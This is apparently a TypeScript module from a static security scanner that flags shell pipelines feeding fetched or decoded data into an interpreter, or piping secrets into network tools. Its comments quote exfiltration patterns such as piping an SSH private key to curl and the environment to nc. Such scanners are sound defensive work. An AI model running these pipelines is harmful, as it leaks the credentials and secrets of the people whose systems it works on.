import type { Effect } from '../model.ts';
import type { Lang } from './commands.ts';
import type { ShCall } from './call-effects.ts';
import { embedded, locAt } from '../scan-context.ts';
import type { ShellWalker } from './walker.ts';

/** What a pipeline stage (or any statement) does, as seen from the pipeline around it. */
export interface StageInfo {
  calls: ShCall[];
  /** Prints data fetched from the network (curl, wget, nc, a /dev/tcp read). */
  fetches: boolean;
  /** Prints decoded data (base64 -d, xxd -r, rev…). */
  decodes: boolean;
  /** Read a credential store or dumped the environment. */
  secret: boolean;
  /** Executes its standard input as code. */
  runner: { name: string; lang: Lang } | null;
  /** Its standard output, when statically known. */
  output: string | null;
  /** Effects its own command produced (for pipeline-level corrections). */
  own?: Effect[];
}

/**
 * Judge a pipeline as a whole: fetched or decoded data flowing into an interpreter (H1/H10), literal
 * code piped into an interpreter (re-scanned as that language), secrets flowing into a network sink.
 */
export function pipelineEffects(w: ShellWalker, stages: StageInfo[]): void {
  // `env | grep PROXY` reads one variable, it does not dump the environment anywhere.
  for (let j = 0; j + 1 < stages.length; j++) {
    const next = stages[j + 1].calls[0];
    if (!next || !/^(grep|egrep|fgrep|rg|awk|sed|cut|wc|sort|head)$/.test(next.name) || next.argv.length < 2) continue;
    for (const e of stages[j].own ?? []) {
      if (e.kind === 'secret-read' && e.secret === 'env-dump') {
        const i = w.effects.indexOf(e);
        if (i >= 0) w.effects.splice(i, 1);
      }
    }
  }
  for (let j = 1; j < stages.length; j++) {
    const runner = stages[j].runner;
    // Report at the start of the pipeline (where a reader sees `curl …`), even when it continues over lines.
    const line = stages[0].calls[0]?.line ?? stages[j].calls[0]?.line ?? 1;
    if (!runner) continue;
    const upstream = stages.slice(0, j);
    const fetcher = upstream.find((s) => s.fetches)?.calls[0]?.name;
    if (fetcher) w.effects.push({ kind: 'fetch-exec', how: 'pipe', fetcher, runner: runner.name, loc: locAt(w.ctx, line) });
    const decoder = upstream.find((s) => s.decodes)?.calls[0]?.name;
    if (decoder) w.effects.push({ kind: 'decode-exec', decoder, runner: runner.name, loc: locAt(w.ctx, line) });
    const code = stages[j - 1].output;
    if (code !== null && code.trim() && !fetcher) {
      const via = decoder ? `${decoder}-decoded and piped into ${runner.name}` : `piped into ${runner.name}`;
      const sub = embedded(w.ctx, line, via, true);
      const scan = runner.lang === 'python' ? sub.scanners.python : runner.lang === 'js' ? sub.scanners.js : runner.lang === 'shell' ? sub.scanners.shell : null;
      if (scan && sub.depth <= 5) w.effects.push(...scan(code, sub));
    }
  }
  // Secrets or an environment dump flowing into a network sink: `cat ~/.ssh/id_rsa | curl -d @- …`, `env | nc host 9`.
  for (let j = 1; j < stages.length; j++) {
    if (!stages[j].fetches) continue;
    if (stages.slice(0, j).some((s) => s.secret)) {
      const call = stages[j].calls[0];
      w.effects.push({ kind: 'network', tool: call?.name ?? 'network', sends: 'secret', loc: locAt(w.ctx, call?.line ?? 1) });
    }
  }
}
